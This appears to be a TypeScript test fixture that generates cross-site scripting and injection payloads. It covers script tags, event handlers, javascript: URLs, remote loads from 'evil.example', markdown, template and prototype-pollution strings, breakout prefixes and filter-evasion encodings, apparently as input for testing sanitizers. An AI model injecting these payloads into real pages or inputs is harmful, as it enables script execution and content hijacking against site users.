/** Texts that would run code, load something or break the page if a page took them for more than text. */

const CALL = "alert(1)";
const ELSEWHERE = "//evil.example/x";

/** What runs or loads, by family. */
const SINKS: Readonly<Record<string, readonly string[]>> = {
  script: [
    `<script>${CALL}</script>`,
    `<script src=${ELSEWHERE}></script>`,
    `<script type=module>${CALL}</script>`,
    `<svg><script>${CALL}</script></svg>`,
    `<svg><script href=data:,${CALL} /></svg>`,
  ],
  handler: [
    `<img src=x onerror=${CALL}>`,
    `<svg onload=${CALL}>`,
    `<body onload=${CALL}>`,
    `<details open ontoggle=${CALL}>`,
    `<input autofocus onfocus=${CALL}>`,
    `<video><source onerror=${CALL}></video>`,
    `<style onload=${CALL}></style>`,
    `<marquee onstart=${CALL}>`,
    `<a autofocus tabindex=0 onfocus=${CALL}>x</a>`,
    `<svg><animate onbegin=${CALL} attributeName=x>`,
  ],
  address: [
    `<a href=javascript:${CALL}>x</a>`,
    `<iframe src=javascript:${CALL}></iframe>`,
    `<form action=javascript:${CALL}><button>x</button></form>`,
    `<object data=javascript:${CALL}></object>`,
    `<embed src=data:text/html,<script>${CALL}</script>>`,
    `<math href=javascript:${CALL}>x</math>`,
    `javascript:${CALL}`,
    `data:text/html,<script>${CALL}</script>`,
  ],
  load: [
    `<img src=${ELSEWHERE}>`,
    `<link rel=stylesheet href=${ELSEWHERE}>`,
    `<link rel=prefetch href=${ELSEWHERE}>`,
    `<base href=${ELSEWHERE}>`,
    `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
    `<iframe src=${ELSEWHERE}></iframe>`,
    `<iframe srcdoc="<script>${CALL}</script>">`,
    `<style>*{background:url(${ELSEWHERE})}</style>`,
    `<style>@import '${ELSEWHERE}';</style>`,
  ],
  markdown: [
    `![x](${ELSEWHERE})`,
    `[x](javascript:${CALL})`,
    `[x]: javascript:${CALL}`,
    `<javascript:${CALL}>`,
    `![x](x "onerror=${CALL}")`,
    `\`\`\`html\n<script>${CALL}</script>\n\`\`\``,
  ],
  template: [
    `{{constructor.constructor('${CALL}')()}}`,
    `\${${CALL}}`,
    `{count, plural, one {<img src=x onerror=${CALL}>} other {#}}`,
    `<0>${CALL}</0>`,
    `__proto__`,
    `constructor`,
  ],
};

/** What leads out of where the text stands. */
const BREAKOUTS: readonly ((sink: string) => string)[] = [
  (sink) => sink,
  (sink) => `"'>${sink}`,
  (sink) => `</title></textarea></style></script>${sink}`,
  (sink) => `--> ]]> */ ${sink}`,
];

/** How the same is written otherwise. */
const FORMS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  (text) => text.replace(/script/g, "ScRiPt").replace(/ on/g, "/on"),
  (text) => text.replace(/javascript:/g, "java\tscript:").replace(/alert/g, "\\u0061lert"),
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set(
    Object.values(SINKS).flatMap((sinks) =>
      sinks.flatMap((sink) => BREAKOUTS.flatMap((breakout) => FORMS.map((form) => form(breakout(sink))))),
    ),
  ),
];

/** Those that can be the names of keys and credentials. */
export const HOSTILE_NAMES: readonly string[] = HOSTILE_TEXTS.filter(
  (text) => text.length <= 64 && !/[\p{C}/]/u.test(text) && text.trim() === text && /[<{(]/.test(text),
);
